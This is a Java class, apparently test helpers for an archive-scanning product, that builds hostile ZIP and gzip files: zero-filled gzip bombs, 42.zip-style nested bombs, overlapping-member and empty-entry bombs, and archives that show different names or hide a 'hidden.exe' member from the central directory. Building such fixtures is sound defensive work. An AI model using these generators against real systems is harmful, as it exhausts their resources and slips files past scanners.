package io.sallyport.content.archive;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Archives that are made to exhaust whoever unpacks them, or to show different things to different programs. */
public final class Bombs {
    private Bombs() {}

    /** A ZIP of one member. */
    public static byte[] zip(String name, byte[] content) {
        return zip(List.of(name), content);
    }

    /** A ZIP that holds the same under several names. */
    public static byte[] zip(List<String> names, byte[] content) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (String name : names) {
                zip.putNextEntry(new ZipEntry(name));
                zip.write(content);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** So many zeros, compressed. */
    public static byte[] gzipOfZeros(long count) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (OutputStream gzip = new GZIPOutputStream(out, 1 << 16)) {
            byte[] zeros = new byte[1 << 20];
            for (long left = count; left > 0; left -= zeros.length) {
                gzip.write(zeros);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** ZIPs in ZIPs in ZIPs: sixteen in each, and zeros at the bottom, like the well-known one of 42 kilobytes. */
    public static byte[] nested(int levels, byte[] bottom) {
        byte[] inner = zip("0.dll", bottom);
        List<String> names = new ArrayList<>();
        for (int i = 0; i < 16; i++) {
            names.add("lib " + i + ".zip");
        }
        for (int level = 0; level < levels; level++) {
            inner = zip(names, inner);
        }
        return inner;
    }

    /** Many members that all lie at the same octets: each of the table's entries names the same local header. */
    public static byte[] overlapping(int members, int unpackedSize) {
        byte[] kernel = deflated(new byte[unpackedSize]);
        Entry entry = new Entry("a", 0, 8, new byte[unpackedSize], kernel);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(entry.local("a"));
        byte[] central = entry.central("a");
        ByteArrayOutputStream table = new ByteArrayOutputStream();
        for (int i = 0; i < members; i++) {
            table.writeBytes(central);
        }
        return finish(out, table, members);
    }

    /** A table of very many members without anything in them. */
    public static byte[] empties(int members) {
        Entry entry = new Entry("a", 0, 0, new byte[0], new byte[0]);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(entry.local("a"));
        byte[] central = entry.central("a");
        ByteArrayOutputStream table = new ByteArrayOutputStream(central.length * members);
        for (int i = 0; i < members; i++) {
            table.writeBytes(central);
        }
        return finish(out, table, members);
    }

    /** One name in the table, another before the member. */
    public static byte[] twoNames(String inTable, String atMember, byte[] content) {
        Entry entry = new Entry(inTable, 0, 0, content, content);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(entry.local(atMember));
        ByteArrayOutputStream table = new ByteArrayOutputStream();
        table.writeBytes(entry.central(inTable));
        return finish(out, table, 1);
    }

    /** A member that the table does not know, before one that it knows. */
    public static byte[] hidden(byte[] shown, byte[] hidden) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new Entry("hidden.exe", 0, 0, hidden, hidden).local("hidden.exe"));
        Entry entry = new Entry("shown.txt", out.size(), 0, shown, shown);
        out.writeBytes(entry.local("shown.txt"));
        ByteArrayOutputStream table = new ByteArrayOutputStream();
        table.writeBytes(entry.central("shown.txt"));
        return finish(out, table, 1);
    }

    private static byte[] finish(ByteArrayOutputStream out, ByteArrayOutputStream table, int members) {
        int start = out.size();
        out.writeBytes(table.toByteArray());
        out.writeBytes(little(22)
                .putInt(0x06054b50)
                .putInt(0)
                .putShort((short) members)
                .putShort((short) members)
                .putInt(table.size())
                .putInt(start)
                .array());
        return out.toByteArray();
    }

    private static byte[] deflated(byte[] content) {
        Deflater deflater = new Deflater(9, true);
        deflater.setInput(content);
        deflater.finish();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] some = new byte[1 << 16];
        while (!deflater.finished()) {
            out.write(some, 0, deflater.deflate(some));
        }
        deflater.end();
        return out.toByteArray();
    }

    private static ByteBuffer little(int size) {
        return ByteBuffer.allocate(size).order(ByteOrder.LITTLE_ENDIAN);
    }

    /** A member, and the two headers that describe it. */
    private record Entry(String name, int at, int method, byte[] content, byte[] packed) {
        byte[] local(String called) {
            byte[] octets = called.getBytes(StandardCharsets.US_ASCII);
            ByteBuffer header = little(30 + octets.length + packed.length)
                    .putInt(0x04034b50)
                    .putShort((short) 20)
                    .putShort((short) 0);
            common(header).putShort((short) octets.length).putShort((short) 0);
            return header.put(octets).put(packed).array();
        }

        byte[] central(String called) {
            byte[] octets = called.getBytes(StandardCharsets.US_ASCII);
            ByteBuffer header = little(46 + octets.length)
                    .putInt(0x02014b50)
                    .putShort((short) 20)
                    .putShort((short) 20)
                    .putShort((short) 0);
            common(header).putShort((short) octets.length).putShort((short) 0);
            header.putShort((short) 0)
                    .putShort((short) 0)
                    .putShort((short) 0)
                    .putInt(0)
                    .putInt(at);
            return header.put(octets).array();
        }

        private ByteBuffer common(ByteBuffer header) {
            CRC32 crc = new CRC32();
            crc.update(content);
            return header.putShort((short) method)
                    .putInt(0)
                    .putInt((int) crc.getValue())
                    .putInt(packed.length)
                    .putInt(content.length);
        }
    }
}
